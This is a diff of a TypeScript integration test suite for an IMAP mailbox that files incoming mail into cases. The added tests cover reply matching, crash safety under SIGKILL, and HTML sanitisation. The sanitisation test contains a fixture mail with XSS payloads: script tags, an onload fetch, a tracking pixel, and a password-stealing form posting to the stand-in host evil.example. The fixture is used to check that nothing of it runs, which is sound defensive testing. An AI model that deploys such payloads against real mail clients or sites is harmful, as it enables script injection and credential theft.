@@ -1,5 +1,7 @@
 /** The mailbox against a real IMAP server: each mail once and in its place, whatever happens in between. */
+import { spawn } from 'node:child_process'
 import { randomBytes } from 'node:crypto'
+import { once } from 'node:events'
 import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
 import { openBox } from '../../src/ground/imap.ts'
 import { boxNamed } from '../../src/ground/imap-set.ts'
@@ -11,7 +13,8 @@ import { watchMailbox } from '../../src/mailbox/watch.ts'
 import { type Dovecot, startDovecot } from '../support/dovecot.ts'
 import { MONDAY, type Office, openOffice } from '../support/house.ts'
 import { type MailServer, startMailServer } from '../support/smtp.ts'
-import { attached, bounce, GBK, nested, parted, plain, raw, winmail, word, words } from './written.ts'
+import type { Place } from './taking.ts'
+import { attached, bounce, GBK, headOf, nested, parted, plain, raw, winmail, word, words } from './written.ts'
 
 const AT = new Date(`${MONDAY}T08:30:00+08:00`)
 const always = async () => true
@@ -101,18 +104,30 @@ test('an answer is put on file of its case if it comes from the applicant; of an
   expect(await reply({ 'In-Reply-To': ours.messageId! }, '补充身份证件号码。')).toMatchObject({
     ...{ state: 'attached', caseId: first.caseId },
   })
-  expect(await reply({ References: '<x@y.cn> <first@example.cn>' }, '再补充。')).toMatchObject({ state: 'attached' })
-  expect(await reply({ Subject: `Re: ${receipt}` }, '又补充。')).toMatchObject({ state: 'attached' })
+  // Who answers our mail has it; a number and an address are known to others as well: a person looks first.
+  const theirs = await reply({ References: '<x@y.cn> <first@example.cn>' }, '再补充。')
+  const numbered = await reply({ Subject: `Re: ${receipt}` }, '又补充。')
+  for (const one of [theirs, numbered])
+    expect(one).toMatchObject({ state: 'proposed', why: 'address', caseId: first.caseId })
+  expect(await filesOf()).toBe(2)
+  const said = '有2封来件以发件地址和编号对上本件'
+  expect((await page(office.registrar, `/cases/${first.caseId}`)).text).toContain(said)
+  const waiting = (await office.registrar.gets('/api/v1/mailbox')).json
+  expect(waiting.mails.map(({ id }: { id: string }) => id)).toEqual(expect.arrayContaining([theirs.id, numbered.id]))
+  expect(waiting.mails.find(({ id }: { id: string }) => id === theirs.id)).toMatchObject({
+    ...{ from: 'zhaoliu@example.cn', state: 'proposed', why: 'address', case: { id: first.caseId, receipt } },
+  })
+  expect((await office.handler.gets('/api/v1/mailbox')).status).toBe(403)
+  expect((await office.registrar.gets('/api/v1/mailbox?before=x')).status).toBe(422)
+  for (const { id } of [theirs, numbered]) expect((await decides(id, 'attach')).status).toBe(303)
   expect(await filesOf()).toBe(4)
+  expect((await page(office.registrar, `/cases/${first.caseId}`)).text).not.toContain('等待登记人员核对')
   const added = (await office.registrar.opens(first.caseId)).facts.filter(
     ({ type }: { type: string }) => type === 'fileAdded',
   )
   expect(added).toHaveLength(3)
   expect(added[0]).toMatchObject({ by: 'system', on: MONDAY, evidence: expect.stringContaining('邮件服务器') })
-  // Who answers our mail has it; a number and an address are known to others as well.
-  expect(added.map(({ evidence }: { evidence: string }) => evidence.includes('发件地址可以伪造'))).toEqual([
-    ...[false, true, true],
-  ])
+  expect(added.map(({ by }: { by: string }) => by)).toEqual(['system', 'staff:registrar', 'staff:registrar'])
 
   const strange = await reply({ From: 'someone@example.cn', 'In-Reply-To': ours.messageId! }, '我是他的朋友。')
   expect(strange).toMatchObject({ state: 'proposed', why: 'sender', caseId: first.caseId })
@@ -208,6 +223,55 @@ test('a mail is here before anybody reads it; over which a process ended three t
   const { state, sealed, caseId } = await row()
   expect([state, sealed]).toEqual(['filed', null])
   expect((await office.registrar.opens(caseId)).title).toBe('（邮件没有主题）')
+})
+
+/** A worker that is killed outright at this place, as by the machine. */
+async function isKilledAt(place: Place): Promise<void> {
+  const { databaseUrl, config } = office.house
+  const env = {
+    ...{ ...process.env, DATABASE_URL: databaseUrl, DATA_DIR: office.folder, IMAP_URL: dovecot.url },
+    ...{ SECRET_KEY: 'a secret of the tests, and of nobody else', MAIL_FROM: config.mailFrom },
+    ...{ PUBLIC_URL: config.publicUrl, SMTP_URL: smtp.url },
+  }
+  const child = spawn(process.execPath, ['--import', 'tsx', 'test/mailbox/taking.ts', place], { env })
+  const errors: string[] = []
+  child.stderr.on('data', (text) => errors.push(String(text)))
+  const gone = once(child, 'exit')
+  await Promise.race([once(child.stdout, 'data'), gone.then(() => Promise.reject(new Error(errors.join(''))))])
+  child.kill('SIGKILL')
+  await gone
+}
+
+test('killed outright in the middle of taking, wherever it stood: nothing is lost and nothing doubled', async () => {
+  const before = (await office.sql`select count(*)::int as n from cases`)[0]!.n
+  for (const [i, place] of (['stored', 'committed', 'reading'] as const).entries()) {
+    for (const n of [1, 2]) await dovecot.receives(plain({ From: `killed${i}.${n}@example.cn` }, `第${i}.${n}件。`), AT)
+    await isKilledAt(place)
+    await looks()
+  }
+  const rows = await office.sql`select state, case_id from mails order by uid desc limit 6`
+  expect(rows.map(({ state }) => state)).toEqual(Array(6).fill('filed'))
+  expect(new Set(rows.map(({ caseId }) => caseId)).size).toBe(6)
+  expect((await office.sql`select count(*)::int as n from cases`)[0]!.n - before).toBe(6)
+  expect(await looks()).toBe(0)
+})
+
+test('an evil page of a mail is shown as its words: nothing of it runs, is fetched or is sent', async () => {
+  const evil = [
+    '<html><head><title>t</title><script>alert(1)</script><style>@import "https://evil.example/s.css"</style></head>',
+    '<body onload="fetch(`//evil.example`)"><p>申请公开甲文件。</p><img src="https://evil.example/pixel.gif">',
+    '<form action="https://evil.example/steal"><input name="password"><button>登录</button></form>',
+    '<iframe src="javascript:alert(2)"></iframe><svg><script>alert(3)</script></svg>&lt;script&gt;alert(4)&lt;/script&gt;</body></html>',
+  ].join('')
+  const html = raw(headOf({ From: 'evil@example.cn', 'Content-Type': 'text/html; charset=utf-8' }), evil)
+  const { id, state } = await comes(html)
+  expect(state).toBe('filed')
+  const shown = await page(office.registrar, `/mailbox/${id}`)
+  expect(shown.text).toContain('申请公开甲文件。')
+  expect(shown.text).toContain('&lt;script>alert(4)')
+  for (const trace of ['evil.example', 'alert(1)', 'alert(2)', 'alert(3)', '<iframe', 'name="password"', '<img'])
+    expect(shown.text, trace).not.toContain(trace)
+  expect(String(shown.headers['content-security-policy'])).toMatch(/default-src 'none'|script-src 'self'/)
 })
 
 test('the same again is set aside, under the same id or another one, and a person can file it all the same', async () => {
